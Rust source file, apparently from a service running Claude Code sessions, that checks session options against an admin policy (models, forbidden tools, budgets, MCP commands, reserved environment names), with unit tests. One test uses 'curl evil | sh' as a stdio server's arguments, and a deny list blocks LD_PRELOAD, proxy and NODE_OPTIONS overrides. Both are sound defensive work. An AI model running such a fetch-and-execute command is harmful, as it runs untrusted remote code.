//! What Claude Code is told: the admin's policy over session options and
//! per-turn overrides, and turning validated options into Claude Code's
//! command line and environment.
//!
//! Invariants:
//! - Every refusal is `invalid_option` and names the option
//!   (`options.model`, `options.env.FOO`, …), never an env value.
//! - Tools the policy forbids are always passed in `--disallowedTools`,
//!   whatever the session asked for.
//! - When the policy has a budget maximum, every session runs with a
//!   budget (its own, or the maximum).
//! - A stdio MCP server runs only a command the admin allowed
//!   (`allowed_mcp_commands`, exact match; none by default): otherwise any
//!   session could run any binary as a "server", whatever the forbidden
//!   tools say.

use crate::error::CoreError;
use cc_wire::api::{SessionOptions, TurnOverrides};
use serde_json::{json, Value};
use std::collections::BTreeMap;

/// Permission modes Claude Code 2.1.332 accepts (`manual` and `auto` are
/// not offered: nobody answers prompts in a headless session).
pub const PERMISSION_MODES: &[&str] = &[
    "acceptEdits",
    "bypassPermissions",
    "default",
    "dontAsk",
    "plan",
];
/// Longest model name, tool rule or MCP server name accepted.
const MAX_NAME_LEN: usize = 200;
/// Longest `appendSystemPrompt` / `instructions`.
const MAX_TEXT_BYTES: usize = 64 * 1024;
/// Most tool rules, MCP servers or environment variables per session.
const MAX_ENTRIES: usize = 64;
/// Longest environment value.
const MAX_ENV_VALUE_BYTES: usize = 16 * 1024;
/// Highest `maxTurns`.
const MAX_MAX_TURNS: u32 = 10_000;
/// Environment names ClaudeCluster sets or that would redirect the agent's
/// traffic; a session may not override them.
const RESERVED_ENV: &[&str] = &[
    "PATH",
    "HOME",
    "USER",
    "LANG",
    "TERM",
    "DISABLE_AUTOUPDATER",
    "HTTP_PROXY",
    "HTTPS_PROXY",
    "NO_PROXY",
    "ALL_PROXY",
    "http_proxy",
    "https_proxy",
    "no_proxy",
    "all_proxy",
    "NODE_EXTRA_CA_CERTS",
    "NODE_OPTIONS",
    "LD_PRELOAD",
    "LD_LIBRARY_PATH",
];
const RESERVED_ENV_PREFIXES: &[&str] = &["ANTHROPIC_", "CLAUDE_", "SESSIOND_", "GIT_"];

/// The admin's policy over what sessions may tell Claude Code.
#[derive(Debug, Clone, Default)]
pub struct AgentPolicy {
    /// Models sessions may choose (and turns may switch to); empty: any.
    pub allowed_models: Vec<String>,
    /// Model of sessions that choose none; Claude Code's default when unset.
    pub default_model: Option<String>,
    /// Highest `maxBudgetUsd` per session; also the budget of sessions that
    /// set none.
    pub max_budget_usd: Option<f64>,
    /// What one user's sessions may spend in all (checked at create; a new
    /// session's budget is capped to what is left).
    pub max_user_budget_usd: Option<f64>,
    /// Tools that are never available (always in `--disallowedTools`; a
    /// session asking to allow one is refused).
    pub forbidden_tools: Vec<String>,
    /// Commands a stdio MCP server may run (exactly as written in the
    /// session's `command`); empty: no stdio servers at all. `http`/`sse`
    /// servers are not affected (their traffic meets the egress policy).
    pub allowed_mcp_commands: Vec<String>,
}

/// Options after validation and defaults: what the session's Claude Code
/// process gets.
#[derive(Clone, Default, PartialEq)]
pub struct ResolvedOptions {
    pub args: Vec<String>,
    pub env: BTreeMap<String, String>,
    pub instructions: Option<String>,
}

impl std::fmt::Debug for ResolvedOptions {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        // Environment values may be secrets: names only.
        f.debug_struct("ResolvedOptions")
            .field("args", &self.args)
            .field("env", &self.env.keys().collect::<Vec<_>>())
            .field("instructions", &self.instructions.as_ref().map(String::len))
            .finish()
    }
}

fn invalid(option: &str, msg: impl std::fmt::Display) -> CoreError {
    CoreError::invalid("invalid_option", format!("{option}: {msg}"))
}

impl AgentPolicy {
    /// Validates a session's options against the policy and turns them into
    /// Claude Code arguments and environment.
    pub fn resolve(&self, opts: Option<&SessionOptions>) -> Result<ResolvedOptions, CoreError> {
        self.resolve_for_user(opts, 0.0)
    }

    /// [`Self::resolve`] for a user whose sessions have spent
    /// `user_spent_usd` so far (see `max_user_budget_usd`).
    pub fn resolve_for_user(
        &self,
        opts: Option<&SessionOptions>,
        user_spent_usd: f64,
    ) -> Result<ResolvedOptions, CoreError> {
        let empty = SessionOptions::default();
        let o = opts.unwrap_or(&empty);
        let mut args: Vec<String> = Vec::new();

        let model = match &o.model {
            Some(m) => {
                self.check_model("options.model", m)?;
                Some(m.clone())
            }
            None => self.default_model.clone(),
        };
        if let Some(m) = model {
            args.extend(["--model".into(), m]);
        }
        if let Some(m) = &o.fallback_model {
            self.check_model("options.fallbackModel", m)?;
            args.extend(["--fallback-model".into(), m.clone()]);
        }
        if let Some(mode) = &o.permission_mode {
            check_permission_mode("options.permissionMode", mode)?;
            args.extend(["--permission-mode".into(), mode.clone()]);
        }

        let allowed = o.allowed_tools.as_deref().unwrap_or_default();
        check_tools("options.allowedTools", allowed)?;
        for tool in allowed {
            if let Some(f) = self
                .forbidden_tools
                .iter()
                .find(|f| tool_base(tool) == f.as_str())
            {
                return Err(invalid(
                    "options.allowedTools",
                    format!("{tool:?} is forbidden by the administrator ({f})"),
                ));
            }
        }
        if !allowed.is_empty() {
            args.extend(["--allowedTools".into(), allowed.join(",")]);
        }
        let asked = o.disallowed_tools.as_deref().unwrap_or_default();
        check_tools("options.disallowedTools", asked)?;
        let mut disallowed: Vec<String> = self.forbidden_tools.clone();
        for t in asked {
            if !disallowed.contains(t) {
                disallowed.push(t.clone());
            }
        }
        if !disallowed.is_empty() {
            args.extend(["--disallowedTools".into(), disallowed.join(",")]);
        }

        if let Some(n) = o.max_turns {
            if n == 0 || n > MAX_MAX_TURNS {
                return Err(invalid(
                    "options.maxTurns",
                    format!("must be between 1 and {MAX_MAX_TURNS}"),
                ));
            }
            args.extend(["--max-turns".into(), n.to_string()]);
        }
        let budget = match (o.max_budget_usd, self.max_budget_usd) {
            (Some(b), _) if !b.is_finite() || b <= 0.0 => {
                return Err(invalid("options.maxBudgetUsd", "must be a positive amount"))
            }
            (Some(b), Some(max)) if b > max => {
                return Err(invalid(
                    "options.maxBudgetUsd",
                    format!("{b} is above the administrator's maximum of {max} USD per session"),
                ))
            }
            (Some(b), _) => Some(b),
            (None, max) => max,
        };
        let budget = match self.max_user_budget_usd {
            Some(limit) if user_spent_usd >= limit => {
                return Err(CoreError::forbidden(
                    "budget_exhausted",
                    format!(
                        "options.maxBudgetUsd: your sessions have spent {user_spent_usd:.4} USD \
                         of the {limit} USD the administrator allows per user"
                    ),
                ))
            }
            Some(limit) => {
                Some(budget.map_or(limit - user_spent_usd, |b| b.min(limit - user_spent_usd)))
            }
            None => budget,
        };
        if let Some(b) = budget {
            args.extend(["--max-budget-usd".into(), b.to_string()]);
        }
        if let Some(p) = &o.append_system_prompt {
            check_text("options.appendSystemPrompt", p)?;
            args.extend(["--append-system-prompt".into(), p.clone()]);
        }
        if let Some(servers) = &o.mcp_servers {
            let config = mcp_config(servers, &self.allowed_mcp_commands)?;
            args.extend(["--mcp-config".into(), config.to_string()]);
        }
        let env = match &o.env {
            Some(env) => check_env(env)?,
            None => BTreeMap::new(),
        };
        if let Some(text) = &o.instructions {
            check_text("options.instructions", text)?;
        }
        Ok(ResolvedOptions {
            args,
            env,
            instructions: o.instructions.clone(),
        })
    }

    /// Validates one turn's overrides (`model`, `permissionMode`).
    pub fn check_overrides(&self, o: &TurnOverrides) -> Result<(), CoreError> {
        if let Some(m) = &o.model {
            self.check_model("model", m)?;
        }
        if let Some(mode) = &o.permission_mode {
            check_permission_mode("permissionMode", mode)?;
        }
        Ok(())
    }

    /// Whether sessions may use `model` (`--allowed-models`; empty: any).
    pub fn allows_model(&self, model: &str) -> bool {
        self.allowed_models.is_empty() || self.allowed_models.iter().any(|m| m == model)
    }

    fn check_model(&self, option: &str, model: &str) -> Result<(), CoreError> {
        check_name(option, model)?;
        if !self.allows_model(model) {
            return Err(invalid(
                option,
                format!(
                    "model {model:?} is not allowed here; allowed: {}",
                    self.allowed_models.join(", ")
                ),
            ));
        }
        Ok(())
    }
}

fn check_permission_mode(option: &str, mode: &str) -> Result<(), CoreError> {
    if PERMISSION_MODES.contains(&mode) {
        Ok(())
    } else {
        Err(invalid(
            option,
            format!(
                "{:?} is not a permission mode; use one of {}",
                mode.chars().take(MAX_NAME_LEN).collect::<String>(),
                PERMISSION_MODES.join(", ")
            ),
        ))
    }
}

/// Model names and tool rules: printable, no commas (they are joined with
/// commas on the command line), not starting with `-`.
fn check_name(option: &str, s: &str) -> Result<(), CoreError> {
    if s.is_empty()
        || s.len() > MAX_NAME_LEN
        || s.starts_with('-')
        || s.contains(',')
        || s.chars().any(char::is_control)
    {
        return Err(invalid(
            option,
            format!("must be 1 to {MAX_NAME_LEN} printable characters without commas"),
        ));
    }
    Ok(())
}

fn check_tools(option: &str, tools: &[String]) -> Result<(), CoreError> {
    if tools.len() > MAX_ENTRIES {
        return Err(invalid(option, format!("at most {MAX_ENTRIES} entries")));
    }
    tools.iter().try_for_each(|t| check_name(option, t))
}

/// `Bash(git:*)` → `Bash`.
fn tool_base(rule: &str) -> &str {
    rule.split('(').next().unwrap_or(rule).trim()
}

fn check_text(option: &str, s: &str) -> Result<(), CoreError> {
    if s.len() > MAX_TEXT_BYTES {
        return Err(invalid(
            option,
            format!("longer than {MAX_TEXT_BYTES} bytes"),
        ));
    }
    if s.contains('\0') {
        return Err(invalid(option, "must not contain NUL"));
    }
    Ok(())
}

/// `{"mcpServers": {...}}` for `--mcp-config`, after checking each server's
/// shape (stdio: `command` + optional `args`/`env`; `http`/`sse`: `url`).
fn mcp_config(
    servers: &BTreeMap<String, Value>,
    allowed_commands: &[String],
) -> Result<Value, CoreError> {
    if servers.len() > MAX_ENTRIES {
        return Err(invalid(
            "options.mcpServers",
            format!("at most {MAX_ENTRIES} servers"),
        ));
    }
    for (name, server) in servers {
        let option = format!("options.mcpServers.{name}");
        if name.is_empty()
            || name.len() > MAX_NAME_LEN
            || !name
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_')
        {
            return Err(invalid(
                "options.mcpServers",
                "server names are letters, digits, '-' and '_'",
            ));
        }
        let Some(obj) = server.as_object() else {
            return Err(invalid(&option, "must be an object"));
        };
        let kind = obj.get("type").and_then(Value::as_str).unwrap_or("stdio");
        match kind {
            "stdio" => {
                let ok = obj
                    .get("command")
                    .and_then(Value::as_str)
                    .is_some_and(|c| !c.is_empty());
                if !ok {
                    return Err(invalid(&option, "a stdio server needs a \"command\""));
                }
                let command = obj.get("command").and_then(Value::as_str).unwrap_or("");
                if !allowed_commands.iter().any(|c| c == command) {
                    let allowed = if allowed_commands.is_empty() {
                        "the administrator allows no stdio MCP servers".to_owned()
                    } else {
                        format!(
                            "the administrator allows only {}",
                            allowed_commands.join(", ")
                        )
                    };
                    return Err(invalid(
                        &option,
                        format!(
                            "command {command:?} is not allowed ({allowed}; serve --allow-mcp-command)"
                        ),
                    ));
                }
            }
            "http" | "sse" => {
                let ok = obj
                    .get("url")
                    .and_then(Value::as_str)
                    .is_some_and(|u| u.starts_with("http://") || u.starts_with("https://"));
                if !ok {
                    return Err(invalid(&option, "needs an http(s) \"url\""));
                }
            }
            other => {
                return Err(invalid(
                    &option,
                    format!("type {other:?} is not one of stdio, http, sse"),
                ))
            }
        }
    }
    Ok(json!({ "mcpServers": servers }))
}

fn check_env(env: &BTreeMap<String, String>) -> Result<BTreeMap<String, String>, CoreError> {
    if env.len() > MAX_ENTRIES {
        return Err(invalid(
            "options.env",
            format!("at most {MAX_ENTRIES} variables"),
        ));
    }
    for (name, value) in env {
        let valid = !name.is_empty()
            && name.len() <= MAX_NAME_LEN
            && !name.starts_with(|c: char| c.is_ascii_digit())
            && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
        if !valid {
            return Err(invalid(
                "options.env",
                "names are letters, digits and '_', not starting with a digit",
            ));
        }
        let option = format!("options.env.{name}");
        if RESERVED_ENV.contains(&name.as_str())
            || RESERVED_ENV_PREFIXES.iter().any(|p| name.starts_with(p))
        {
            return Err(invalid(&option, "is reserved by ClaudeCluster"));
        }
        // The value is never echoed: it may be a secret.
        if value.len() > MAX_ENV_VALUE_BYTES || value.contains('\0') {
            return Err(invalid(
                &option,
                format!("value must be at most {MAX_ENV_VALUE_BYTES} bytes, without NUL"),
            ));
        }
    }
    Ok(env.clone())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn policy() -> AgentPolicy {
        AgentPolicy {
            allowed_models: vec!["claude-a".into(), "claude-b".into()],
            default_model: Some("claude-a".into()),
            max_budget_usd: Some(5.0),
            max_user_budget_usd: None,
            forbidden_tools: vec!["WebFetch".into()],
            allowed_mcp_commands: vec!["mcp-fs".into()],
        }
    }

    fn err(r: Result<ResolvedOptions, CoreError>) -> String {
        r.unwrap_err().to_string()
    }

    #[test]
    fn defaults_apply() {
        let r = policy().resolve(None).unwrap();
        assert_eq!(
            r.args,
            [
                "--model",
                "claude-a",
                "--disallowedTools",
                "WebFetch",
                "--max-budget-usd",
                "5"
            ]
        );
        assert!(AgentPolicy::default()
            .resolve(None)
            .unwrap()
            .args
            .is_empty());
    }

    #[test]
    fn options_become_arguments() {
        let o = SessionOptions {
            model: Some("claude-b".into()),
            permission_mode: Some("plan".into()),
            allowed_tools: Some(vec!["Bash(git:*)".into(), "Edit".into()]),
            disallowed_tools: Some(vec!["Bash".into()]),
            max_turns: Some(3),
            max_budget_usd: Some(0.5),
            append_system_prompt: Some("Be brief.".into()),
            mcp_servers: Some(BTreeMap::from([(
                "fs".to_owned(),
                json!({"command": "mcp-fs", "args": ["/workspace"]}),
            )])),
            env: Some(BTreeMap::from([(
                "MY_TOKEN".to_owned(),
                "s3cret".to_owned(),
            )])),
            instructions: Some("Use tabs.".into()),
            ..Default::default()
        };
        let r = policy().resolve(Some(&o)).unwrap();
        let a = r.args.join(" ");
        assert!(a.contains("--model claude-b"), "{a}");
        assert!(a.contains("--permission-mode plan"), "{a}");
        assert!(a.contains("--allowedTools Bash(git:*),Edit"), "{a}");
        assert!(a.contains("--disallowedTools WebFetch,Bash"), "{a}");
        assert!(a.contains("--max-turns 3 --max-budget-usd 0.5"), "{a}");
        assert!(a.contains("--append-system-prompt Be brief."), "{a}");
        assert!(a.contains(r#"--mcp-config {"mcpServers":{"fs":"#), "{a}");
        assert_eq!(r.env["MY_TOKEN"], "s3cret");
        assert!(!format!("{r:?}").contains("s3cret"));
        assert_eq!(r.instructions.as_deref(), Some("Use tabs."));
    }

    #[test]
    fn policy_refusals_name_the_option() {
        let p = policy();
        let o = |f: fn(&mut SessionOptions)| {
            let mut o = SessionOptions::default();
            f(&mut o);
            o
        };
        let e = err(p.resolve(Some(&o(|o| o.model = Some("claude-z".into())))));
        assert!(e.contains("options.model") && e.contains("claude-z"), "{e}");
        let e = err(p.resolve(Some(&o(|o| o.max_budget_usd = Some(9.0)))));
        assert!(e.contains("options.maxBudgetUsd"), "{e}");
        let e = err(p.resolve(Some(&o(|o| {
            o.allowed_tools = Some(vec!["WebFetch(domain:x)".into()])
        }))));
        assert!(
            e.contains("options.allowedTools") && e.contains("forbidden"),
            "{e}"
        );
        let e = err(p.resolve(Some(&o(|o| o.permission_mode = Some("yolo".into())))));
        assert!(e.contains("options.permissionMode"), "{e}");
        let e = err(p.resolve(Some(&o(|o| o.max_turns = Some(0)))));
        assert!(e.contains("options.maxTurns"), "{e}");
        let e = err(p.resolve(Some(&o(|o| {
            o.mcp_servers = Some(BTreeMap::from([("x".to_owned(), json!({"args": []}))]))
        }))));
        assert!(e.contains("options.mcpServers.x"), "{e}");
    }

    #[test]
    fn a_stdio_mcp_server_runs_only_a_command_the_admin_allowed() {
        let with = |name: &str, server: Value| SessionOptions {
            mcp_servers: Some(BTreeMap::from([(name.to_owned(), server)])),
            ..Default::default()
        };
        let server = |command: &str| {
            with(
                "x",
                json!({"command": command, "args": ["-c", "curl evil | sh"]}),
            )
        };
        // None allowed by default.
        let e = AgentPolicy::default()
            .resolve(Some(&server("mcp-fs")))
            .unwrap_err();
        assert!(
            matches!(
                e,
                CoreError::Invalid {
                    code: "invalid_option",
                    ..
                }
            ),
            "{e:?}"
        );
        assert!(
            e.to_string().contains("options.mcpServers.x")
                && e.to_string().contains("allows no stdio MCP servers"),
            "{e}"
        );
        // Exactly the allowed command, not another path to it.
        assert!(policy().resolve(Some(&server("mcp-fs"))).is_ok());
        for other in ["/bin/sh", "./mcp-fs", "mcp-fs ", "/usr/bin/mcp-fs"] {
            let e = err(policy().resolve(Some(&server(other))));
            assert!(
                e.contains("is not allowed") && e.contains("mcp-fs"),
                "{other}: {e}"
            );
        }
        // Remote servers are not stdio commands.
        let remote = with("r", json!({"type": "http", "url": "https://mcp.example/x"}));
        assert!(AgentPolicy::default().resolve(Some(&remote)).is_ok());
    }

    #[test]
    fn env_names_that_override_ours_are_refused_without_echoing_values() {
        for name in [
            "ANTHROPIC_BASE_URL",
            "CLAUDE_CODE_X",
            "PATH",
            "HOME",
            "SESSIOND_TOKEN",
            "HTTPS_PROXY",
        ] {
            let o = SessionOptions {
                env: Some(BTreeMap::from([(name.to_owned(), "top-secret".to_owned())])),
                ..Default::default()
            };
            let e = err(policy().resolve(Some(&o)));
            assert!(e.contains(&format!("options.env.{name}")), "{e}");
            assert!(!e.contains("top-secret"), "{e}");
        }
        let o = SessionOptions {
            env: Some(BTreeMap::from([("1BAD".to_owned(), "v".to_owned())])),
            ..Default::default()
        };
        assert!(err(policy().resolve(Some(&o))).contains("options.env"));
    }

    #[test]
    fn a_users_budget_caps_and_then_refuses_sessions() {
        let p = AgentPolicy {
            max_user_budget_usd: Some(10.0),
            ..policy()
        };
        let r = p.resolve_for_user(None, 8.0).unwrap();
        assert!(
            r.args.join(" ").contains("--max-budget-usd 2"),
            "{:?}",
            r.args
        );
        let r = p.resolve_for_user(None, 1.0).unwrap();
        assert!(
            r.args.join(" ").contains("--max-budget-usd 5"),
            "{:?}",
            r.args
        );
        let e = p.resolve_for_user(None, 10.0).unwrap_err().to_string();
        assert!(e.contains("options.maxBudgetUsd"), "{e}");
    }

    #[test]
    fn turn_overrides_follow_the_policy() {
        let p = policy();
        let ok = TurnOverrides {
            model: Some("claude-b".into()),
            permission_mode: Some("acceptEdits".into()),
        };
        assert!(p.check_overrides(&ok).is_ok());
        let bad = TurnOverrides {
            model: Some("claude-z".into()),
            permission_mode: None,
        };
        assert!(p
            .check_overrides(&bad)
            .unwrap_err()
            .to_string()
            .contains("model"));
    }
}
